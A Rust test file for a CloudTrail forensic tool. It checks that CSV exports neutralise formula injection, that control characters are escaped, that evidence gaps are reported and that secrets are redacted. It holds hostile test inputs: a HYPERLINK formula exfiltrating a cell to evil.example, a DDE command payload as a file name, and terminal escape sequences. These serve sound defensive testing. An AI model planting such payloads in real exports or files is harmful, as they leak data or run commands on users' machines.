//! Hostile evidence meets the exports (issue #13, items 4, 8 and 9): a record crafted to run in
//! a spreadsheet stays text in the CSV, every evidence gap reaches the user in every format, and
//! no secret value in a real API shape leaves the tool.

use crate::support;

use serde_json::{json, Value};
use std::path::Path;
use support::*;

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";

/// A honeytoken read whose every attacker-chosen field is a spreadsheet formula.
fn formula_case(dir: &Path) {
    let read = json!({
        "eventVersion": "1.09",
        "eventTime": "2026-11-20T14:02:17Z",
        "eventID": "-2+3",
        "eventSource": "secretsmanager.amazonaws.com",
        "eventName": "GetSecretValue",
        "awsRegion": "@us-east-1",
        "sourceIPAddress": "+198.51.100.23",
        "userAgent": FORMULA,
        "errorCode": "\tAccessDenied",
        "requestParameters": {"secretId": "Production_Database_Credentials"},
        "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::123456789012:user/alice",
                         "accountId": "123456789012", "accessKeyId": "AKIAEXAMPLEALICE01"}
    });
    std::fs::write(
        dir.join("=cmd|'-C calc'!A0.json"),
        json!({"Records": [read]}).to_string(),
    )
    .unwrap();
}

fn csv_cells(bytes: &[u8]) -> Vec<Vec<String>> {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes);
    r.records()
        .map(|rec| rec.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[test]
fn csv_formula_injection_is_neutralised() {
    let dir = tempfile::tempdir().unwrap();
    formula_case(dir.path());
    let d = dir.path().to_str().unwrap();
    for all in [false, true] {
        let mut args = vec!["timeline", d, "--format", "csv"];
        if all {
            args.push("--all");
        }
        let run = trailcase(&args);
        assert_eq!(run.code, 0, "{}", run.stderr);
        let text = run.text();
        let rows = csv_cells(&run.stdout);
        assert!(rows.len() >= 2, "{text}");
        for cell in rows.iter().flatten() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "--all {all}: a cell a spreadsheet would run: {cell:?}"
            );
        }
        let read = rows
            .iter()
            .find(|r| r.iter().any(|c| c.contains("GetSecretValue")))
            .unwrap_or_else(|| panic!("no honeytoken row: {text}"));
        for value in [
            format!("'{FORMULA}"),
            "'-2+3".into(),
            "'+198.51.100.23".into(),
            "'@us-east-1".into(),
        ] {
            assert!(
                read.contains(&value),
                "--all {all}: {value} not in {read:?}"
            );
        }
        assert!(
            read.iter().any(|c| c.ends_with("=cmd|'-C calc'!A0.json")),
            "the input path is kept, after its directory: {read:?}"
        );
        // Every cell is quoted, as OWASP recommends besides the prefix.
        assert!(text.lines().all(|l| l.starts_with('"')), "{text}");
    }
    // The JSON keeps the exact values.
    let doc = trailcase(["timeline", d, "--format", "json"]).json();
    let row = doc["timeline"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["action"] == "secretsmanager:GetSecretValue")
        .unwrap();
    assert_eq!(row["user_agent"], FORMULA);
    assert_eq!(row["event_id"], "-2+3");
}

/// NUL, ESC, CSI (U+009B), BEL, DEL and a bidirectional override in a user agent.
const CONTROLS: &str = "evil\0\u{1b}[31mRED\u{1b}[0m\u{9b}2J\u{7}\u{7f}\u{202e}txt\\n";

#[test]
fn control_characters_in_evidence_are_escaped_in_csv_and_exact_in_json() {
    let evidence = tempfile::tempdir().unwrap();
    let read = json!({
        "eventVersion": "1.09", "eventTime": "2026-11-20T14:02:17Z",
        "eventID": "0b0e6c0a-1b8d-4d3a-9d59-2b1f0c9e7a11",
        "eventSource": "secretsmanager.amazonaws.com", "eventName": "GetSecretValue",
        "awsRegion": "us-east-1", "sourceIPAddress": "198.51.100.23", "userAgent": CONTROLS,
        "errorCode": "\tAccessDenied\r\n=1",
        "requestParameters": {"secretId": "Production_Database_Credentials"},
        "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::123456789012:user/alice",
                         "accountId": "123456789012", "accessKeyId": "AKIAEXAMPLEALICE01"}
    });
    let input = evidence.path().join("records.json");
    std::fs::write(&input, json!({"Records": [read]}).to_string()).unwrap();
    let d = input.to_str().unwrap();
    let shown = "evil\\u{0}\\u{1b}[31mRED\\u{1b}[0m\\u{9b}2J\\u{7}\\u{7f}\\u{202e}txt\\n";
    let acts = |c: char| c.is_control() && c != '\n' || c == '\u{202e}';
    for args in [
        &["--format", "csv"][..],
        &["--format", "csv", "--all"],
        &["--format", "iocs"],
    ] {
        let run = trailcase([&["timeline", d][..], args].concat());
        assert_eq!(run.code, 0, "{args:?}: {}", run.stderr);
        let text = run.text();
        assert!(
            !text.chars().any(acts),
            "{args:?}: a raw control character: {text:?}"
        );
        let cells: Vec<String> = csv_cells(&run.stdout).into_iter().flatten().collect();
        assert!(cells.iter().any(|c| c == shown), "{args:?}: {cells:?}");
        if args[1] == "csv" {
            assert!(
                cells
                    .iter()
                    .any(|c| c == "\\u{9}AccessDenied\\u{d}\\u{a}=1"),
                "{args:?}: {cells:?}"
            );
        }
    }
    // The JSON formats keep the exact value.
    let doc = trailcase(["timeline", d, "--format", "json"]).json();
    assert_eq!(doc["timeline"][0]["user_agent"], CONTROLS);
    // So do the PDF's attachments of the report in CSV.
    let out = tempfile::tempdir().unwrap();
    let pdf = out.path().join("r.pdf");
    // Exit 1: no manifest, no digest: integrity "not verifiable", as `verify` says.
    assert_eq!(report_pdf(&pdf, &[d]).code, 1);
    let files = pdf_attachments(&pdf, &out.path().join("attached"));
    let iocs = std::fs::read_to_string(files.join("indicators.csv")).unwrap();
    assert!(!iocs.chars().any(acts) && iocs.contains(shown), "{iocs:?}");
}

#[test]
fn json_formats_escape_what_a_terminal_would_act_on_and_keep_the_value() {
    let evidence = tempfile::tempdir().unwrap();
    let read = json!({
        "eventVersion": "1.09", "eventTime": "2026-11-20T14:02:17Z",
        "eventID": "0b0e6c0a-1b8d-4d3a-9d59-2b1f0c9e7a11",
        "eventSource": "secretsmanager.amazonaws.com", "eventName": "GetSecretValue",
        "awsRegion": "us-east-1", "sourceIPAddress": "198.51.100.23", "userAgent": CONTROLS,
        "requestParameters": {"secretId": "Production_Database_Credentials"},
        "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::123456789012:user/alice",
                         "accountId": "123456789012", "accessKeyId": "AKIAEXAMPLEALICE01"}
    });
    let input = evidence.path().join("records.json");
    std::fs::write(&input, json!({"Records": [read]}).to_string()).unwrap();
    let d = input.to_str().unwrap();
    let out = tempfile::tempdir().unwrap();
    let written = out.path().join("t.json");
    let acts = |c: char| c.is_control() && c != '\n' || ('\u{202a}'..='\u{202e}').contains(&c);
    for args in [
        &["--format", "json"][..],
        &["--format", "jsonl"],
        &["--format", "timesketch"],
        &["--format", "json", "--all"],
        &["--format", "jsonl", "--all"],
        &["--format", "timesketch", "--all"],
        &[
            "--format",
            "timesketch",
            "--all",
            "--out",
            written.to_str().unwrap(),
        ],
        &["--format", "jsonl", "--out", written.to_str().unwrap()],
    ] {
        let run = trailcase([&["timeline", d][..], args].concat());
        assert_eq!(run.code, 0, "{args:?}: {}", run.stderr);
        let text = if args.contains(&"--out") {
            std::fs::read_to_string(&written).unwrap()
        } else {
            run.text()
        };
        assert!(!text.chars().any(acts), "{args:?}: {text:?}");
        assert!(
            text.contains(r"\u009b2J\u0007\u007f\u202etxt"),
            "{args:?}: {text}"
        );
        let first: Value = match args[1] {
            "json" => {
                let doc: Value = serde_json::from_str(&text).unwrap();
                let rows = doc.get("timeline").or(doc.get("records")).unwrap();
                rows[0].clone()
            }
            _ => serde_json::from_str(text.lines().next().unwrap()).unwrap(),
        };
        assert_eq!(first["user_agent"], CONTROLS, "{args:?}: the exact value");
    }
}

/// One good file and one gzip cut in half: the second is a gap.
fn gap_case(dir: &Path) {
    let record = |id: &str, time: &str| {
        json!({"eventVersion": "1.08", "eventTime": time, "eventID": id,
               "eventSource": "ec2.amazonaws.com", "eventName": "DescribeInstances",
               "awsRegion": "us-east-1", "sourceIPAddress": "192.0.2.1",
               "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::123456789012:user/alice"}})
    };
    std::fs::write(
        dir.join("good.json"),
        json!({"Records": [record("good-1", "2026-11-20T10:00:00Z")]}).to_string(),
    )
    .unwrap();
    let body = json!({"Records": (0..200).map(|i| record(&format!("cut-{i}"), "2026-11-20T11:00:00Z")).collect::<Vec<_>>()});
    let mut enc = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut enc, body.to_string().as_bytes()).unwrap();
    let gz = enc.finish().unwrap();
    std::fs::write(dir.join("cut.json.gz"), &gz[..gz.len() / 2]).unwrap();
}

#[test]
fn gaps_reach_every_format_and_stderr() {
    let dir = tempfile::tempdir().unwrap();
    gap_case(dir.path());
    let d = dir.path().to_str().unwrap();
    for all in [false, true] {
        for format in ["csv", "jsonl", "timesketch"] {
            let mut args = vec!["timeline", d, "--format", format];
            if all {
                args.push("--all");
            }
            let run = trailcase(&args);
            let what = format!("{format} --all {all}");
            assert_eq!(run.code, 1, "{what}: {}", run.stderr);
            assert!(
                run.stderr.contains("cut.json.gz") && run.stderr.contains("truncated_gzip"),
                "{what}: stderr names the gap: {}",
                run.stderr
            );
            let text = run.text();
            let gap_rows: Vec<&str> = text
                .lines()
                .filter(|l| l.contains("evidence_gap"))
                .collect();
            // The cut gzip is two gaps: the stream is truncated, and the JSON ends early.
            assert_eq!(gap_rows.len(), 2, "{what}: {text}");
            assert!(
                gap_rows.iter().all(|r| r.contains("cut.json.gz")),
                "{what}: {gap_rows:?}"
            );
            if format != "csv" {
                let row: Value = serde_json::from_str(gap_rows[0]).unwrap();
                assert_eq!(row["kind"], "evidence_gap", "{what}");
                assert_eq!(row["gap_kind"], "truncated_gzip", "{what}");
                assert!(row["input"].as_str().unwrap().ends_with("cut.json.gz"));
            }
            if format == "timesketch" {
                let row: Value = serde_json::from_str(gap_rows[0]).unwrap();
                assert_eq!(row["timestamp_desc"], "Evidence Gap (undated)");
                assert!(row["message"].as_str().unwrap().contains("cut.json.gz"));
            }
            let quiet = trailcase([&["-q"][..], &args].concat());
            assert_eq!(quiet.code, 1, "{what}");
            assert!(quiet.stderr.is_empty(), "{what}: -q: {}", quiet.stderr);
        }
    }
}

#[test]
fn file_names_with_escape_codes_do_not_reach_the_terminal() {
    let dir = tempfile::tempdir().unwrap();
    let name = "evil\u{1b}]0;owned\u{7}\u{1b}[2J.json";
    std::fs::write(dir.path().join(name), b"{\"Records\": [").unwrap();
    let run = trailcase(["timeline", dir.path().to_str().unwrap(), "--format", "csv"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(!run.stderr.contains('\u{1b}'), "{:?}", run.stderr);
    assert!(run.stderr.contains("evil\\u{1b}]0;owned"), "{}", run.stderr);
}

/// Inside the corpus's two session tokens written in longer strings (an error message, a
/// presigned URL), which have no room for a `SECRET-VALUE-` marker: a token is base64.
const TOKEN_MARK: &str = "EXAMPLEtoken";

fn secrets_in(text: &str) -> Vec<String> {
    text.match_indices("SECRET-VALUE-")
        .chain(text.match_indices(TOKEN_MARK))
        .map(|(i, _)| text[i..(i + 15).min(text.len())].to_string())
        .collect()
}

#[test]
fn secrets_in_real_api_shapes_never_leave_the_tool() {
    let corpus = repo().join("tests/data/redaction");
    let file = corpus.join("api-shapes.json");
    let c = file.to_str().unwrap();
    let raw = std::fs::read_to_string(corpus.join("api-shapes.json")).unwrap();
    assert_eq!(
        secrets_in(&raw).len(),
        30,
        "the corpus holds 30 secrets, two of them session tokens inside longer strings"
    );

    let json = trailcase(["timeline", c, "--format", "json"]);
    assert_eq!(json.code, 0, "{}", json.stderr);
    let doc = json.json();
    let records: Vec<&Value> = doc["timeline"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r.get("record").is_some())
        .collect();
    assert_eq!(
        records.len(),
        21,
        "every record of the corpus is in the timeline"
    );
    let text = json.text();
    assert!(secrets_in(&text).is_empty(), "{:?}", secrets_in(&text));
    // What is not secret is kept: the honeytoken's name, identifiers, the names of environment
    // variables (their values are all replaced), the access key of a presigned URL, the rest of
    // a string that held a secret.
    for kept in [
        "Production_Database_Credentials",
        "4exampleclientid",
        "\"DB_HOST\": \"[REDACTED]\"",
        "\"name\": \"NPM_AUTH\"",
        "aws/codebuild/standard:7.0",
        "ASIAEXAMPLESESSION1",
        "X-Amz-Credential=ASIAEXAMPLEPRESIGN1",
        "X-Amz-Signature=[REDACTED]&X-Amz-Security-Token=[REDACTED]",
        "The security token [REDACTED] included in the request is invalid",
        "export PGPASSWORD=[REDACTED]; psql -h db.internal",
        "--password='[REDACTED]'",
        "EXAMPLE1-90ab-cdef-fedc-ba987EXAMPLE",
        "\\\"table\\\":\\\"orders\\\"",
    ] {
        assert!(text.contains(kept), "{kept} was redacted");
    }

    let jsonl = trailcase(["timeline", c, "--format", "jsonl"]);
    assert!(secrets_in(&jsonl.text()).is_empty());

    let dir = tempfile::tempdir().unwrap();
    let tj = dir.path().join("timeline.json");
    let run = trailcase_env(
        [
            "report",
            c,
            "--quiet",
            "--out",
            dir.path().join("r.pdf").to_str().unwrap(),
            "--timeline-json",
            tj.to_str().unwrap(),
        ],
        &[("SOURCE_DATE_EPOCH", REPORT_EPOCH)],
    );
    // Exit 1: no manifest, no digest: integrity "not verifiable", as `verify` says.
    assert_eq!(run.code, 1, "{}", run.stderr);
    let written = std::fs::read_to_string(&tj).unwrap();
    assert!(written.contains("Production_Database_Credentials"));
    assert!(
        secrets_in(&written).is_empty(),
        "{:?}",
        secrets_in(&written)
    );
    // Without the line breaks: a value wrapped over two lines of a table cell is still shown.
    let pdf: String = pdf_text(&dir.path().join("r.pdf"))
        .chars()
        .filter(|c| !c.is_whitespace())
        .collect();
    assert!(secrets_in(&pdf).is_empty(), "{:?}", secrets_in(&pdf));
    assert!(
        pdf.contains("Thesecuritytoken[REDACTED]includedintherequestisinvalid"),
        "the error message is shown, its token redacted"
    );
}

/// CJK text and emoji in the evidence used to print as `?` in the PDF.
#[test]
fn cjk_and_emoji_in_evidence_print_in_the_pdf() {
    let dir = tempfile::tempdir().unwrap();
    let ua = "aws-cli/2.15 漏洞スキャナ 한국어 🔥✅";
    let read = json!({
        "eventVersion": "1.09", "eventTime": "2026-11-20T14:02:17Z",
        "eventID": "0b0e6c0a-1b8d-4d3a-9d59-2b1f0c9e7a11",
        "eventSource": "secretsmanager.amazonaws.com", "eventName": "GetSecretValue",
        "awsRegion": "us-east-1", "sourceIPAddress": "198.51.100.23", "userAgent": ua,
        "requestParameters": {"secretId": "Production_Database_Credentials"},
        "userIdentity": {"type": "IAMUser", "arn": "arn:aws:iam::123456789012:user/alice",
                         "accountId": "123456789012", "accessKeyId": "AKIAEXAMPLEALICE01"}
    });
    let input = dir.path().join("records.json");
    std::fs::write(&input, json!({"Records": [read]}).to_string()).unwrap();
    let pdf = dir.path().join("r.pdf");
    let run = report_pdf(&pdf, &[input.to_str().unwrap()]);
    // Exit 1: no manifest, no digest: integrity "not verifiable", as `verify` says.
    assert_eq!(run.code, 1, "{}", run.stderr);
    let text = pdf_text(&pdf);
    for part in ["漏洞スキャナ", "한국어", "🔥", "✅"] {
        assert!(text.contains(part), "{part} not in the PDF's text");
    }
    // Set in faces that have the glyphs (embedded subsets), not as DejaVu's `?`.
    let (ok, fonts) = tool("pdffonts", &[pdf.to_str().unwrap()]);
    assert!(ok, "{fonts}");
    for face in ["DroidSansFallback", "NanumSquare", "Symbola"] {
        assert!(fonts.contains(face), "{face} not embedded: {fonts}");
    }
}
